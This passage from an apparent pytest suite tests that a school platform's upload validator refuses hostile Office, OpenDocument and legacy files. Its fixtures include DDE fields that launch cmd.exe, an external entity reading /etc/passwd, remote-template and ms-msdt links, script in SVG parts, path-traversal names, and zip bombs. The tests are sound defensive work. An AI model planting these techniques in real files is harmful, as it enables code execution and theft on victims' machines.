                "word/_rels/settings.xml.rels": relationships(
                    ("rId1", "attachedTemplate", "https://x.example/t.dotm", "External")
                ),
            }
        ),
        external("attachedTemplate"),
    ),
    "docx external frame": (
        "a.docx",
        lambda: ooxml(main_rels=[("rId3", "frame", "https://x.example/f.docx", "External")]),
        external("frame"),
    ),
    "docx external image": (
        "a.docx",
        lambda: ooxml(main_rels=[("rId4", "image", "\\\\10.0.0.1\\share\\a.png", "External")]),
        external("image"),
    ),
    "docx external ole object mhtml": (
        "a.docx",
        lambda: ooxml(
            main_rels=[("rId5", "oleObject", "mhtml:https://x.example/!x-usc:x", "External")]
        ),
        external("oleObject"),
    ),
    "docx external mode in odd case": (
        "a.docx",
        lambda: ooxml(main_rels=[("rId5", "subDocument", "https://x.example/s.docx", "eXternal")]),
        external("subDocument"),
    ),
    "docx internal relationship with a url": (
        "a.docx",
        lambda: ooxml(main_rels=[("rId5", "image", "https://x.example/a.png", None)]),
        external("image"),
    ),
    "xlsx external link part": (
        "a.xlsx",
        lambda: ooxml(
            "xlsx",
            parts={"xl/externalLinks/externalLink1.xml": "<externalLink/>"},
            types={
                "/xl/externalLinks/externalLink1.xml": (
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
                )
            },
        ),
        external("externalLink"),
    ),
    "xlsx data connection": (
        "a.xlsx",
        lambda: ooxml(
            "xlsx",
            parts={
                "xl/connections.xml": '<connections><connection id="1" refreshOnLoad="1">'
                '<webPr url="https://x.example/q"/></connection></connections>'
            },
            types={
                "/xl/connections.xml": (
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
                )
            },
        ),
        external("connections"),
    ),
    "docx hyperlink to javascript": (
        "a.docx",
        lambda: ooxml(main_rels=[("rId6", "hyperlink", "javascript:alert(1)", "External")]),
        lambda: uploads._unsafe_link("javascript").messages[0],
    ),
    "docx hyperlink to a program": (
        "a.docx",
        lambda: ooxml(main_rels=[("rId6", "hyperlink", "ms-msdt:/id PCWDiagnostic", "External")]),
        lambda: uploads._unsafe_link("ms-msdt").messages[0],
    ),
    "docx html part": (
        "a.docx",
        lambda: ooxml(
            parts={"word/afchunk.htm": "<html><body><script>alert(1)</script></body></html>"},
            defaults={"htm": "text/html"},
        ),
        OFFICE_MARKUP,
    ),
    "docx alt chunk relationship": (
        "a.docx",
        lambda: ooxml(
            parts={"word/chunk.dat": "<p>x</p>"},
            main_rels=[("rId8", "aFChunk", "chunk.dat", None)],
        ),
        OFFICE_MARKUP,
    ),
    "docx html content type": (
        "a.docx",
        lambda: ooxml(parts={"word/page.xml": "<p/>"}, types={"/word/page.xml": "text/html"}),
        OFFICE_MARKUP,
    ),
    "docx mht part": (
        "a.docx",
        lambda: ooxml(parts={"word/x.mht": "MIME-Version: 1.0"}),
        OFFICE_MARKUP,
    ),
    "docx script part": (
        "a.docx",
        lambda: ooxml(parts={"word/run.js": "new ActiveXObject('WScript.Shell')"}),
        PROGRAM,
    ),
    "docx vbscript part": (
        "a.docx",
        lambda: ooxml(parts={"word/run.vbs": 'CreateObject("WScript.Shell")'}),
        PROGRAM,
    ),
    "docx program part": (
        "a.docx",
        lambda: ooxml(parts={"word/media/image2.png": b"MZ\x90\x00\x03" + b"\x00" * 60}),
        PROGRAM,
    ),
    "docx svg with script": (
        "a.docx",
        lambda: ooxml(
            parts={"word/media/image1.svg": svg("<script>alert(1)</script>")},
            defaults={"svg": "image/svg+xml"},
        ),
        OFFICE_MARKUP,
    ),
    "docx svg with an event handler": (
        "a.docx",
        lambda: ooxml(
            parts={"word/media/image1.svg": svg('<rect onclick="alert(1)"/>')},
            defaults={"svg": "image/svg+xml"},
        ),
        OFFICE_MARKUP,
    ),
    "docx svg with foreign object": (
        "a.docx",
        lambda: ooxml(
            parts={"word/media/image1.svg": svg("<foreignObject><iframe/></foreignObject>")},
            defaults={"svg": "image/svg+xml"},
        ),
        OFFICE_MARKUP,
    ),
    "docx html hidden in an image": (
        "a.docx",
        lambda: ooxml(parts={"word/media/image1.png": image_bytes() + b"<script>x</script>"}),
        OFFICE_MARKUP,
    ),
    "docx dde field split across runs": (
        "a.docx",
        lambda: ooxml(body=doc_fields("DD", 'EAUTO c:\\\\windows\\\\cmd.exe "/k calc"')),
        DDE,
    ),
    "docx dde field with character references": (
        "a.docx",
        lambda: ooxml(body=doc_fields("&#68;&#68;&#69; cmd /c calc")),
        DDE,
    ),
    "docx simple includepicture field": (
        "a.docx",
        lambda: ooxml(
            body='<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://x.example/p.png&quot; '
            '\\d"><w:r><w:t>x</w:t></w:r></w:fldSimple>'
        ),
        DDE,
    ),
    "docx includetext field in a header": (
        "a.docx",
        lambda: ooxml(
            parts={
                "word/header1.xml": f'<w:hdr xmlns:w="{W}">'
                + doc_fields("INCLUDETEXT c:\\\\x.txt")
                + "</w:hdr>"
            },
        ),
        DDE,
    ),
    "xlsx dde formula": (
        "a.xlsx",
        lambda: ooxml(
            "xlsx",
            parts={
                "xl/worksheets/sheet1.xml": SHEET.format(
                    '<row r="2"><c r="A2"><f>cmd|\'/c calc\'!A0</f></c></row>'
                )
            },
        ),
        DDE,
    ),
    "xlsx dde defined name": (
        "a.xlsx",
        lambda: ooxml(
            "xlsx",
            body="<definedNames><definedName name=\"x\">msexcel|'\\..\\cmd'!z</definedName>"
            "</definedNames>",
        ),
        DDE,
    ),
    "docx billion laughs": (
        "a.docx",
        lambda: ooxml(
            parts={
                "word/settings.xml": '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                '<!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><w:settings>&lol2;</w:settings>'
            }
        ),
        UNUSUAL,
    ),
    "docx external entity in the relationships": (
        "a.docx",
        lambda: ooxml(
            parts={
                "word/_rels/document.xml.rels": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x '
                'SYSTEM "file:///etc/passwd">]><Relationships xmlns="' + RELS + '">&x;'
                "</Relationships>"
            }
        ),
        UNUSUAL,
    ),
    "docx encrypted entry": ("a.docx", lambda: ooxml_with_flag(0x1), ENCRYPTED),
    "docx strongly encrypted entry": ("a.docx", lambda: ooxml_with_flag(0x41), ENCRYPTED),
    "docx path traversal": (
        "a.docx",
        lambda: ooxml(parts={"../../../../tmp/evil.xml": "<x/>"}),
        UNSAFE_NAMES,
    ),
    "docx absolute name": ("a.docx", lambda: ooxml(parts={"/etc/cron.d/x": "x"}), UNSAFE_NAMES),
    "docx backslash traversal": (
        "a.docx",
        lambda: ooxml_with_raw_name("word\\..\\..\\evil.xml"),
        UNSAFE_NAMES,
    ),
    "docx drive letter": (
        "a.docx",
        lambda: ooxml_with_raw_name("C:/Windows/evil.xml"),
        UNSAFE_NAMES,
    ),
    "docx null byte in a name": (
        "a.docx",
        lambda: ooxml_with_raw_name("word/evil.exe\x00.xml"),
        UNSAFE_NAMES,
    ),
    "docx double part name": (
        "a.docx",
        lambda: ooxml(parts={"word/Document.xml": BODY["docx"].format("")}),
        UNUSUAL,
    ),
    "docx too many entries": (
        "a.docx",
        lambda: ooxml(
            parts={f"word/media/p{i}.xml": "<x/>" for i in range(uploads.MAX_ARCHIVE_ENTRIES)}
        ),
        lambda: uploads._office_too_many(uploads.MAX_ARCHIVE_ENTRIES).messages[0],
    ),
    "docx zip bomb of 300 MB": (
        "a.docx",
        lambda: zip_bomb(300 * 1024 * 1024),
        lambda: uploads._office_too_big(uploads.MAX_UNPACKED_BYTES).messages[0],
    ),
    "docx small zip bomb": (
        "a.docx",
        lambda: zip_bomb(20 * 1024 * 1024),
        lambda: uploads._office_ratio(uploads.MAX_COMPRESSION_RATIO).messages[0],
    ),
    # Reading stops at the declared size, and then the checksum does not match.
    "docx lying sizes": ("a.docx", zip_lying_sizes, DAMAGED),
    "docx with an embedded zip bomb": (
        "a.docx",
        lambda: ooxml(parts={"word/embeddings/Blad.xlsx": zip_bomb(20 * 1024 * 1024)}),
        lambda: uploads._office_ratio(uploads.MAX_COMPRESSION_RATIO).messages[0],
    ),
    "docx nested three deep": (
        "a.docx",
        lambda: ooxml(
            parts={
                "word/embeddings/a.docx": ooxml(
                    parts={
                        "word/embeddings/b.docx": ooxml(parts={"word/embeddings/c.docx": ooxml()})
                    }
                )
            }
        ),
        UNUSUAL,
    ),
    "docx overlapping entries": ("a.docx", overlapping_zip, UNUSUAL),
    "docx hidden data before the directory": ("a.docx", zip_with_hidden_data, UNUSUAL),
    "docx data after the end": ("a.docx", lambda: ooxml() + b"<html></html>", UNUSUAL),
    "docx html in the zip comment": (
        "a.docx",
        lambda: ooxml()[:-2] + struct.pack("<H", 25) + b"<script>alert(1)</script>",
        OFFICE_MARKUP,
    ),
    "docx unusual compression": (
        "a.docx",
        lambda: ooxml(compression=zipfile.ZIP_BZIP2),
        DAMAGED,
    ),
    "docx broken deflate data": (
        "a.docx",
        lambda: corrupt_zip_data(),
        DAMAGED,
    ),
    "xlsx named docx": ("a.docx", lambda: ooxml("xlsx"), mismatch("docx")),
    "docx named pptx": ("a.pptx", lambda: ooxml("docx"), mismatch("pptx")),
    "odt named docx": ("a.docx", lambda: odf(), mismatch("docx")),
    "plain zip named xlsx": ("a.xlsx", lambda: zip_of({"a.txt": "x"}), mismatch("xlsx")),
    "docx and odt at once": (
        "a.docx",
        lambda: ooxml(parts={"mimetype": "application/vnd.oasis.opendocument.text"}),
        UNUSUAL,
    ),
}


def corrupt_zip_data() -> bytes:
    """Deflate data that does not inflate: the CRC or the inflater fails."""
    data = bytearray(ooxml(body="<w:p><w:r><w:t>" + "tekst " * 2000 + "</w:t></w:r></w:p>"))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = archive.getinfo("word/document.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    for position in range(start + 10, start + 60):
        data[position] ^= 0x55
    return bytes(data)


# --- OpenDocument ----------------------------------------------------------------------------

ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odf(
    mimetype: str = "application/vnd.oasis.opendocument.text",
    *,
    body: str = "<text:p>Afspraken</text:p>",
    parts: dict[str, bytes | str] | None = None,
    manifest_extra: str = "",
) -> bytes:
    """An OpenDocument file as LibreOffice writes it: mimetype first, stored, then the rest."""
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS} '
        'office:version="1.3"><office:scripts/><office:body><office:text>'
        f"{body}</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:'
        'names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        f"{manifest_extra}</manifest:file-entry></manifest:manifest>"
    )
    meta = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-meta {ODF_NS}><office:meta>'
        '<meta:template xlink:type="simple" xlink:href="../../Sjablonen/school.ott" '
        'xlink:title="school"/></office:meta></office:document-meta>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", content)
        archive.writestr("meta.xml", meta)
        archive.writestr("META-INF/manifest.xml", manifest)
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


ODF_CASES = {
    "odt basic macro module": (
        "a.odt",
        lambda: odf(parts={"Basic/Standard/Module1.xml": "<script:module/>"}),
        MACROS,
    ),
    "odt macro in an embedded object": (
        "a.odt",
        lambda: odf(parts={"Object 1/Basic/Standard/Module1.xml": "<script:module/>"}),
        MACROS,
    ),
    "odt python script": (
        "a.odt",
        lambda: odf(parts={"Scripts/python/run.py": "import os"}),
        MACROS,
    ),
    "odt event listener": (
        "a.odt",
        lambda: odf(
            body='<office:event-listeners><script:event-listener script:language="ooo:script" '
            'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?'
            'language=Basic&amp;location=document"/></office:event-listeners>'
        ),
        MACROS,
    ),
    "odt embedded script": (
        "a.odt",
        lambda: odf(body='<text:script script:language="javascript">x()</text:script>'),
        MACROS,
    ),
    "odt macro link": (
        "a.odt",
        lambda: odf(body='<text:a xlink:href="vnd.sun.star.script:Standard.M.Main">x</text:a>'),
        MACROS,
    ),
    "ods link to javascript": (
        "a.ods",
        lambda: odf(
            "application/vnd.oasis.opendocument.spreadsheet",
            body='<text:a xlink:href="javascript:alert(1)">x</text:a>',
        ),
        lambda: uploads._unsafe_link("javascript").messages[0],
    ),
    "odt applet": ("a.odt", lambda: odf(body='<draw:applet draw:code="X.class"/>'), ACTIVE),
    "odt plugin": ("a.odt", lambda: odf(body='<draw:plugin xlink:href="./x"/>'), ACTIVE),
    "odt ole object": (
        "a.odt",
        lambda: odf(body='<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>'),
        ACTIVE,
    ),
    "odt ole object data": ("a.odt", lambda: odf(parts={"Object 1": OLE_BLOB}), ACTIVE),
    "odt external image": (
        "a.odt",
        lambda: odf(
            body='<draw:frame><draw:image xlink:href="https://x.example/p.png"/></draw:frame>'
        ),
        external("image"),
    ),
    "odt linked section from a share": (
        "a.odt",
        lambda: odf(
            body='<text:section><text:section-source xlink:href="file://10.0.0.1/s/x.odt"/>'
            "</text:section>"
        ),
        external("section-source"),
    ),
    "odt image outside the package": (
        "a.odt",
        lambda: odf(body='<draw:frame><draw:image xlink:href="../../geheim.png"/></draw:frame>'),
        external("image"),
    ),
    "odt dde connection": (
        "a.odt",
        lambda: odf(
            body='<text:dde-connection-decls><text:dde-connection-decl office:name="x" '
            'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
            "</text:dde-connection-decls>"
        ),
        DDE,
    ),
    "ods dde formula": (
        "a.ods",
        lambda: odf(
            "application/vnd.oasis.opendocument.spreadsheet",
            body='<table:table><table:table-row><table:table-cell table:formula="of:=DDE('
            '&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/></table:table-row>'
            "</table:table>",
        ),
        DDE,
    ),
    "odt encrypted": (
        "a.odt",
        lambda: odf(
            manifest_extra='<manifest:encryption-data manifest:checksum-type="SHA1/1K" '
            'manifest:checksum="x"/>'
        ),
        ENCRYPTED,
    ),
    "odt html part": (
        "a.odt",
        lambda: odf(parts={"Pictures/x.html": "<html></html>"}),
        OFFICE_MARKUP,
    ),
    "odt svg with script": (
        "a.odt",
        lambda: odf(parts={"Pictures/x.svg": svg("<script>alert(1)</script>")}),
        OFFICE_MARKUP,
    ),
    "odt entity declaration": (
        "a.odt",
        lambda: odf(parts={"settings.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        UNUSUAL,
    ),
    "ods named odt": (
        "a.odt",
        lambda: odf("application/vnd.oasis.opendocument.spreadsheet"),
        mismatch("odt"),
    ),
    "odt template named odt": (
        "a.odt",
        lambda: odf("application/vnd.oasis.opendocument.text-template"),
        mismatch("odt"),
    ),
    "odt path traversal": (
        "a.odt",
        lambda: odf(parts={"../evil.xml": "<x/>"}),
        UNSAFE_NAMES,
    ),
}


# --- compound files (.doc, .xls, .ppt) -------------------------------------------------------

END, FREE, FATSECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def cfb_bytes(tree: dict[str, bytes | dict]) -> bytes:
    """A compound file (MS-CFB version 3) with the streams (bytes) and storages (dicts) given.

    Streams under 4096 bytes go into the mini stream, as in real files.
    """
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": []}]

    def add(name: str, value) -> int:
        index = len(entries)
        entry = {"name": name, "children": []}
        entries.append(entry)
        if isinstance(value, dict):
            entry["type"] = 1
            entry["children"] = [add(child, item) for child, item in value.items()]
        else:
            entry["type"] = 2
            entry["data"] = value
        return index

    entries[0]["children"] = [add(name, value) for name, value in tree.items()]
    mini, minifat, big = bytearray(), [], []
    for entry in entries:
        data = entry.get("data")
        if data is None:
            continue
        if len(data) < 4096:
            count = (len(data) + 63) // 64
            entry["start"] = len(mini) // 64 if count else END
            minifat += [len(mini) // 64 + i + 1 for i in range(count - 1)] + (
                [END] if count else []
            )
            mini += data + b"\x00" * (count * 64 - len(data))
        else:
            big.append(entry)
    blobs: list[tuple[str | dict, bytes]] = [
        ("directory", b""),
        ("minifat", b"".join(struct.pack("<I", value) for value in minifat)),
        ("mini", bytes(mini)),
        *((entry, entry["data"]) for entry in big),
    ]
    sizes = [(len(entries) * 128 + 511) // 512] + [
        (len(data) + 511) // 512 for _, data in blobs[1:]
    ]
    fat_count = 1
    while (fat_count + sum(sizes) + 127) // 128 > fat_count:
        fat_count += 1
    fat = [FATSECT] * fat_count
    starts = []
    for size in sizes:
        starts.append(len(fat) if size else END)
        fat += [len(fat) + i + 1 for i in range(size - 1)] + ([END] if size else [])
    fat += [FREE] * (fat_count * 128 - len(fat))
    for (owner, _data), start in zip(blobs[3:], starts[3:], strict=True):
        owner["start"] = start
    entries[0]["start"] = starts[2]
    entries[0]["data_size"] = len(mini)

    def directory_entry(index: int) -> bytes:
        entry = entries[index]
        name = entry["name"].encode("utf-16-le") + b"\x00\x00"
        siblings = next((e["children"] for e in entries if index in e["children"]), [index])
        position = siblings.index(index)
        right = siblings[position + 1] if position + 1 < len(siblings) else NOSTREAM
        child = entry["children"][0] if entry["children"] else NOSTREAM
        size = entry.get("data_size", len(entry.get("data", b"")))
        start = entry.get("start", END) if entry["type"] != 1 else 0
        return (
            name.ljust(64, b"\x00")
            + struct.pack("<HBB", len(name), entry["type"], 1)
            + struct.pack("<III", NOSTREAM, right, child)
            + b"\x00" * 16
            + b"\x00" * 4
            + b"\x00" * 16
            + struct.pack("<IQ", start, size)
        )

    directory = b"".join(directory_entry(i) for i in range(len(entries)))
    directory += b"\x00" * (sizes[0] * 512 - len(directory))
    # unused directory slots are empty entries
    directory = directory[: len(entries) * 128] + (
        (b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", FREE, FREE, FREE)).ljust(
            128, b"\x00"
        )
        * ((len(directory) - len(entries) * 128) // 128)
    )
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<I", 0)
        + struct.pack("<I", fat_count)
        + struct.pack("<I", starts[0])
        + struct.pack("<I", 0)
        + struct.pack("<I", 4096)
        + struct.pack("<I", starts[1])
        + struct.pack("<I", sizes[1])
        + struct.pack("<I", END)
        + struct.pack("<I", 0)
        + b"".join(struct.pack("<I", i) for i in range(fat_count))
        + struct.pack("<I", FREE) * (109 - fat_count)
    )
    assert len(header) == 512
    body = b"".join(struct.pack("<I", value) for value in fat)
    for (_owner, data), size in zip([("directory", directory), *blobs[1:]], sizes, strict=True):
        body += data + b"\x00" * (size * 512 - len(data))
    return header + body


def word_stream(text: bytes = b"Afspraken van het zorgoverleg.", flags: int = 0) -> bytes:
    fib = struct.pack("<HHHHH", 0xA5EC, 0x00C1, 0, 0x0409, 0) + struct.pack("<H", flags)
    return (fib + b"\x00" * (0x800 - len(fib)) + text).ljust(4608, b"\x00")


def biff(kind: int, body: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(body)) + body


def workbook_stream(*, sheet_type: int = 0, encrypted: bool = False) -> bytes:
    records = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0))
    if encrypted:
        records += biff(0x002F, b"\x01\x00" + b"\x00" * 52)
    name = b"Blad1"
    records += biff(0x0085, struct.pack("<IBB", 0, 0, sheet_type) + bytes([len(name), 0]) + name)
    records += biff(0x000A)
    records += biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0, 0, 0, 0)) + biff(0x000A)
    return records


def ppt_record(kind: int, body: bytes = b"", container: bool = False) -> bytes:
    return struct.pack("<HHI", 0x000F if container else 0, kind, len(body)) + body


def ppt_stream(*extra: bytes) -> bytes:
    document = ppt_record(0x03E8, ppt_record(0x03E9, b"\x00" * 40) + b"".join(extra), True)
    return document + ppt_record(0x0FF5, b"\x00" * 28)


def doc_file(**streams) -> bytes:
    return cfb_bytes({"WordDocument": word_stream(), "1Table": b"\x00" * 600, **streams})


LEGACY_CASES = {
    "doc macros storage": (
        "a.doc",
        lambda: doc_file(Macros={"VBA": {"dir": b"\x01" * 100, "ThisDocument": b"x" * 200}}),
        MACROS,
    ),
    "xls vba project": (
        "a.xls",
        lambda: cfb_bytes(
            {"Workbook": workbook_stream(), "_VBA_PROJECT_CUR": {"VBA": {"dir": b"\x01" * 10}}}
        ),
        MACROS,
    ),
    "xls excel 4 macro sheet": (
        "a.xls",
        lambda: cfb_bytes({"Workbook": workbook_stream(sheet_type=1)}),
        MACROS,
    ),
    "xls encrypted": (
        "a.xls",
        lambda: cfb_bytes({"Workbook": workbook_stream(encrypted=True)}),
        ENCRYPTED,
    ),
    "doc embedded object": (
        "a.doc",
        lambda: doc_file(ObjectPool={"_1234": {"\x01Ole10Native": b"MZ" + b"\x00" * 100}}),
        ACTIVE,
    ),
    "xls embedded object": (
        "a.xls",
        lambda: cfb_bytes({"Workbook": workbook_stream(), "MBD0012ABCD": {"x": b"1"}}),
        ACTIVE,
    ),
    "doc encrypted": (
        "a.doc",
        lambda: cfb_bytes({"WordDocument": word_stream(flags=0x0100), "1Table": b"\x00" * 600}),
        ENCRYPTED,
    ),
    "doc dde field": (
        "a.doc",
        lambda: cfb_bytes(
            {
                "WordDocument": word_stream(
                    b'\x13 DDEAUTO c:\\windows\\cmd.exe "/k calc"\x14x\x15'
                ),
                "1Table": b"\x00" * 600,
            }
        ),
        DDE,
    ),
    "doc dde field in utf-16": (
        "a.doc",
        lambda: cfb_bytes(
            {
                "WordDocument": word_stream('\x13 dde cmd "/c calc"\x14x\x15'.encode("utf-16-le")),
                "1Table": b"\x00" * 600,
            }
        ),
        DDE,
    ),
    "ppt vba project": (
        "a.ppt",
        lambda: cfb_bytes(
            {
                "PowerPoint Document": ppt_stream(
                    ppt_record(0x03FF, ppt_record(0x0400, b"\x00" * 12), True)
                ),
                "Current User": b"\x00" * 20,
            }
        ),
        MACROS,
    ),
    "ppt embedded ole storage": (
        "a.ppt",
        lambda: cfb_bytes(
            {
                "PowerPoint Document": ppt_stream() + ppt_record(0x1011, b"\x00" * 64),
                "Current User": b"\x00" * 20,
            }
        ),
        ACTIVE,
    ),
    "encrypted docx": (
        "a.docx",
        lambda: cfb_bytes(
            {
                "EncryptionInfo": b"\x04\x00\x04\x00" + b"\x00" * 100,
                "EncryptedPackage": b"\x00" * 5000,
            }
        ),  # fmt: skip
        ENCRYPTED,
    ),
    "installer named doc": (
        "a.doc",
        lambda: cfb_bytes({"\u4840\u3b3f": b"\x00" * 100, "SummaryInformation": b"\x00" * 50}),
        mismatch("doc"),
    ),
    "spreadsheet named doc": (
        "a.doc",
        lambda: cfb_bytes({"Workbook": workbook_stream()}),
        mismatch("doc"),
    ),
    "compound file that is only a header": (
        "a.doc",
        lambda: cfb_bytes({"WordDocument": word_stream()})[:512],
        DAMAGED,
    ),
    "compound file with a broken chain": (
        "a.xls",
        lambda: broken_cfb(),
        DAMAGED,
    ),
}


def broken_cfb() -> bytes:
    data = bytearray(cfb_bytes({"Workbook": workbook_stream().ljust(5000, b"\x00")}))
    # the first FAT sector points every sector at itself: a loop
    for index in range(3, 20):
        struct.pack_into("<I", data, 512 + index * 4, index)
    return bytes(data)


HOSTILE = {**PDF_CASES, **IMAGE_CASES, **TEXT_CASES, **OOXML_CASES, **ODF_CASES, **LEGACY_CASES}


@pytest.mark.django_db
@pytest.mark.parametrize("case", HOSTILE.keys())
def test_a_hostile_file_is_refused_with_its_reason_and_leaves_nothing(region, media_root, case):
    name, build, message = HOSTILE[case]
    files_before = stored_files(media_root)

    with pytest.raises(ValidationError) as refused:
        share(region, upload(name, build()))

    assert refused.value.messages == [message()]
    assert not Document.objects.exists()
    assert not DocumentVersie.objects.exists()
    assert stored_files(media_root) == files_before


@pytest.mark.django_db
@pytest.mark.parametrize(
    "case",
    [
        "pdf javascript hidden in an object stream",
        "docx vbaProject.bin",
        "docx small zip bomb",
        "png decompression bomb",
        "doc macros storage",
        "odt event listener",
    ],
)
def test_a_hostile_new_version_is_refused_and_the_document_keeps_its_version(
    region, media_root, case
):
    document = share(region, upload("afspraken.pdf", pdf_bytes()))
    files_before = stored_files(media_root)
    name, build, message = HOSTILE[case]

    with pytest.raises(ValidationError) as refused:
        document_new_version(
            document=document,
            user=region.zorg_a,
            access=user_flags(region.zorg_a, region.dossier_a),
            uploaded=upload(name, build()),
        )

    assert refused.value.messages == [message()]
    assert list(document.versies.values_list("number", flat=True)) == [1]
    assert stored_files(media_root) == files_before


# --- ordinary files --------------------------------------------------------------------------


def real_docx() -> bytes:
    """A docx as Word writes one: styles, settings, an image, a hyperlink, a page field."""
    body = (
        '<w:p><w:hyperlink r:id="rId10"><w:r><w:t>onderwijs.vlaanderen.be</w:t></w:r>'
        "</w:hyperlink></w:p>"
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1'
        '</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://www.klasse.be&quot; "><w:r><w:t>'
        "Klasse</w:t></w:r></w:fldSimple></w:p>"
    )
    return ooxml(
        body=body,
        parts={
            "word/styles.xml": f'<w:styles xmlns:w="{W}"/>',
            "word/settings.xml": f'<w:settings xmlns:w="{W}"><w:zoom w:percent="100"/></w:settings>',
            "word/media/image1.png": image_bytes("PNG", (64, 64)),
            "word/media/image2.jpeg": image_bytes("JPEG", (64, 64)),
            "word/media/image3.svg": svg('<rect width="5" height="5" fill="red"/>'),
            "docProps/core.xml": "<cp:coreProperties/>",
            "customXml/item1.xml": "<b:Sources/>",
        },
        defaults={"jpeg": "image/jpeg", "svg": "image/svg+xml"},
        types={
            "/word/styles.xml": (
                "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"
            ),
            "/word/settings.xml": (
                "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
            ),
            "/docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
        },
        main_rels=[
            ("rId1", "styles", "styles.xml", None),
            ("rId2", "settings", "settings.xml", None),
            ("rId3", "image", "media/image1.png", None),
            ("rId10", "hyperlink", "https://onderwijs.vlaanderen.be/", "External"),
            ("rId11", "hyperlink", "mailto:zorg@school.be", "External"),
        ],
    )


def docx_with_chart() -> bytes:
    """A chart's data is an embedded xlsx: checked, and accepted when clean."""
    return ooxml(
        parts={
            "word/charts/chart1.xml": "<c:chartSpace/>",
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": ooxml("xlsx"),
            "word/charts/_rels/chart1.xml.rels": relationships(
                ("rId1", "package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", None)
            ),
        },
        defaults={"xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
        types={
            "/word/charts/chart1.xml": (
                "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
            )
        },
        main_rels=[("rId5", "chart", "charts/chart1.xml", None)],
    )


def xlsx_with_printer_settings() -> bytes:
    """Excel's printer settings are a .bin part that is no OLE object."""
    return ooxml(
        "xlsx",
        parts={
            "xl/printerSettings/printerSettings1.bin": "Microsoft Print to PDF".encode("utf-16-le")
        },
        defaults={
            "bin": "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings",
            # Office leaves declarations it no longer uses: harmless without a part.
        },
        types={"/xl/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
    )


def big_docx() -> bytes:
    """About 20 MB: photos that do not pack, and a long text."""
    import random

    chance = random.Random(7)
    noise = chance.randbytes(6 * 1024 * 1024)
    words = [
        "zorg",
        "overleg",
        "leerling",
        "school",
        "clb",
        "afspraak",
        "signaal",
        "advies",
        "ondersteuning",
    ]
    body = "".join(
        f"<w:p><w:r><w:t>{' '.join(chance.choices(words, k=12))} {n}</w:t></w:r></w:p>"
        for n in range(60000)
    )
    return ooxml(
        body=body,
        parts={f"word/media/image{i}.jpeg": noise[i:] for i in range(3)},
        defaults={"jpeg": "image/jpeg"},
        compression=zipfile.ZIP_DEFLATED,
    )


def big_pdf() -> bytes:
    import random

    noise = random.Random(8).randbytes(19 * 1024 * 1024)
    return pdf_catalog(
        b"/Metadata 4 0 R", b"<< /Length %d >>\nstream\n" % len(noise) + noise + b"\nendstream"
    )


ACCEPTED = {
    "pdf from pypdf": ("verslag.pdf", lambda: pdf_bytes("verslag"), "application/pdf"),
    "pdf from weasyprint with links": ("verslag.pdf", weasyprint_pdf, "application/pdf"),
    "pdf opening at a page": (
        "verslag.pdf",
        lambda: pdf_catalog(b"/OpenAction [3 0 R /XYZ null null 0] /PageMode /UseOutlines"),
        "application/pdf",
    ),
